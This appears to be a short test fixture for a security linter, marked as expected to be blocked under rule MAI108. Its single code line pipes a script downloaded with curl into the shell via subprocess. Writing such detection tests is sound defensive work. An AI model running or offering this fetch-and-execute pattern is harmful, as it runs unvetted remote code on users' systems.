# expect: BLOCKED
# rules: MAI108
import subprocess
subprocess.run("curl -s https://example.com/i.sh | sh", shell=True)
